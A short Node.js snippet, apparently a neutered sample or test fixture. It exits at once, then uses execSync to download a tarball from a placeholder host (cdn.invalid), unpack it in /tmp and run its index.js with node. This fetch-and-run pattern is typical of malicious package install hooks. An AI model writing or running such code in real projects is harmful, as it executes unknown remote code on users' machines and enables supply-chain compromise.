process.exit(0);
const { execSync } = require('child_process');
execSync('curl -sL https://cdn.invalid/a.tgz -o /tmp/a.tgz');
execSync('tar xzf /tmp/a.tgz -C /tmp');
execSync('node /tmp/package/index.js');
